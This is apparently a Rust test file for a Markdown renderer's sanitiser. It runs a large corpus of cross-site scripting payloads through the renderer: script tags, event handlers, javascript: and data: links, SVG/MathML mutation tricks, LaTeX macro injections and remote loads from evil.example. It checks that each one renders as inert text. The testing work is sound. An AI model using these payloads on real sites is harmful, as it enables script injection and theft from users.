//! Texts that attack the reader's browser, each rendered and read again by the checker.

use crate::markdown::checker::{Page, check};
use crate::markdown::{plain, render};

/// Attacks whose markup must be seen as text, letter by letter.
const HTML_ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'\"--></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]><script>alert(1)</script>",
    "<span class=\"glyph\" title=\"forged\">RLO</span>",
    "<span class=glyph onclick=alert(1)>x</span>",
    "<code class=\"language-x\" onclick=alert(1)>x</code>",
    "<p id=content>x</p>",
    "<select><selectedcontent><img src=x onerror=alert(1)></selectedcontent></select>",
    "<x onclick=alert(1)>x</x>",
    "<a href=//evil.example><table><a href=//evil.example>",
    "</p></div></body></html><script>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "< script >alert(1)</ script >",
];

/// Attacks through Markdown itself; none of them may become a link or load anything.
const MARKDOWN_ATTACKS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](\u{200b}javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](view-source:https://evil.example)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/sign-out)",
    "[x](?delete=1)",
    "[x](#fragment)",
    "[x](http://[broken)",
    "[x](javascript:alert(1) \"a\\\" onclick=alert(1) x=\")",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n[1]: <javascript:alert(1)> 'onclick=\"alert(1)\"'",
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=\"alert(1)](x)",
    "![x](x \"a\" onerror=\"alert(1)\")",
    "![![x](javascript:alert(1))](javascript:alert(2))",
    "![[x](http://evil.example)](http://evil.example)",
    "[a]: javascript:alert(1)",
    "[a]: /x \"<img src=x onerror=alert(1)>\"",
    "[a]: <data:text/html,<script>alert(1)</script>>\n[a]: //evil.example",
    "|a|\n|-|\n|`|<script>alert(1)</script>|`|<img src=x onerror=alert(1)>|",
    "def f(x):\n    <script>alert(1)</script>",
    "**（<script>alert(1)</script>）**是",
    "**[是](javascript:alert(1))。**是",
    "2. <script>alert(1)</script>\n9\" onclick=alert(1)",
    "``` \"><script>alert(1)</script>\nx\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlId{content}{x}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{glyph}{x}$",
    "$\\label{\"><script>alert(1)</script>} \\eqref{\"><img src=x>}$",
    "$$\\tag{\"><script>alert(1)</script>} x$$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext><annotation-xml encoding=\"text/html\"><script>alert(1)</script>}$",
    "$\\textbf{</b></mtext></math><img src=x onerror=alert(1)>}$",
    "$\\begin{annotation-xml}<script>alert(1)</script>\\end{annotation-xml}$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    "$\\hspace{1em;position:fixed}x$",
    "$\\hspace{9999em}x \\hspace{-9999em}y$",
    "$\\rule{9999em}{9999em}$",
    "$\\<script>alert(1)\\</script>$",
    "$\\boxed{\\color{Mulberry}{<script>}}$",
    "$\\ce{<script>alert(1)</script>}$",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|[x](javascript:alert(1))|",
    "|a\n|-\n|<img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "# x {#id onclick=alert(1)}",
    "`<script>alert(1)</script>`",
    "<img src=`javascript:alert(1)`>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "~~~ <img/src=x/onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "*<b onclick=alert(1)>*x*</b>*",
    "- <details open ontoggle=alert(1)>\n  - x",
    "> <iframe src=x>\n> </iframe>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "~~<svg/onload=alert(1)>~~",
    "\\<script>alert(1)\\</script>",
];

/// Links that may be followed, but try to carry something along.
const LINK_ATTACKS: &[(&str, &str)] = &[
    ("[x](https://a.example/\"onclick=alert(1))", "https://a.example/%22onclick=alert(1)"),
    ("[x](https://a.example 'a\" onclick=\"alert(1)')", "https://a.example/"),
    ("[x](https://a.example \"<script>alert(1)</script>\")", "https://a.example/"),
    ("[x](https://a.example \"\u{202e}\0\")", "https://a.example/"),
    ("[x](<https://a.example/ onclick=alert(1)>)", "https://a.example/%20onclick=alert(1)"),
    ("[x](https://a.example/&quot;&gt;&lt;script&gt;)", "https://a.example/%22%3E%3Cscript%3E"),
    ("[<img src=x onerror=alert(1)>](https://a.example)", "https://a.example/"),
    ("[![x](https://evil.example/p.png)](https://a.example)", "https://a.example/"),
    ("https://a.example/'onclick='alert(1)", "https://a.example/'onclick='alert(1)"),
    ("https://a.example/\"><script>alert(1)</script>", "https://a.example/"),
    ("<https://a.example/\"onclick=alert(1)>", "https://a.example/%22onclick=alert(1)"),
    // What a picture would load is shown as a source; nothing loads it.
    ("![x][1]\n\n[1]: http://evil.example/pixel.png", "http://evil.example/pixel.png"),
    ("[1]: https://a.example/\"onclick=alert(1)", "https://a.example/"),
    ("<mail@a.example>", "mailto:mail@a.example"),
    ("[x](mailto:mail@a.example)", "mailto:mail@a.example"),
    ("[x](HTTPS://A.EXAMPLE)", "https://a.example/"),
    ("[x](https://b\u{fc}cher.example/\u{e4})", "https://xn--bcher-kva.example/%C3%A4"),
];

fn rendered(text: &str) -> Page {
    let html = render(text);
    check(&html).unwrap_or_else(|problem| panic!("{text:?}: {problem}\n{html}"))
}

fn without_spaces(text: &str) -> String {
    text.chars().filter(|character| !character.is_whitespace() && *character != '\u{a0}').collect()
}

#[test]
fn the_corpus_is_large() {
    assert!(HTML_ATTACKS.len() + MARKDOWN_ATTACKS.len() + LINK_ATTACKS.len() >= 130);
}

#[test]
fn raw_html_is_shown_as_it_was_typed() {
    for attack in HTML_ATTACKS {
        let page = rendered(attack);

        assert_eq!(without_spaces(&page.text), without_spaces(attack), "{attack:?}");
        assert!(page.addresses.is_empty(), "{attack:?} links to {:?}", page.addresses);
    }
}

#[test]
fn raw_html_is_harmless_wherever_it_stands() {
    for attack in HTML_ATTACKS {
        for (before, after) in [
            ("text ", " text"),
            ("- ", ""),
            ("> ", ""),
            ("# ", ""),
            ("**", "**"),
            ("[", "](https://a.example)"),
            ("![", "](x)"),
            ("[x](", ")"),
            ("[x](https://a.example \"", "\")"),
            ("```", "\n```"),
            ("|a|\n|-|\n|", "|"),
            ("<p>\n", "\n\n"),
            ("<!-- ", " -->"),
        ] {
            rendered(&format!("{before}{attack}{after}"));
        }
    }
}

#[test]
fn markdown_leads_only_where_it_may() {
    for attack in MARKDOWN_ATTACKS {
        let page = rendered(attack);

        assert!(page.addresses.is_empty(), "{attack:?} links to {:?}", page.addresses);
    }
}

#[test]
fn a_link_carries_nothing_but_its_address() {
    for (attack, address) in LINK_ATTACKS {
        let page = rendered(attack);

        assert_eq!(page.addresses, [*address], "{attack:?}");
    }
}

#[test]
fn plain_text_has_no_elements_at_all() {
    for attack in HTML_ATTACKS.iter().chain(MARKDOWN_ATTACKS) {
        let page = check(&plain(attack)).expect("escaped text passes the checker");

        assert!(page.elements.iter().all(|element| element == "span"), "{attack:?}");
    }
}
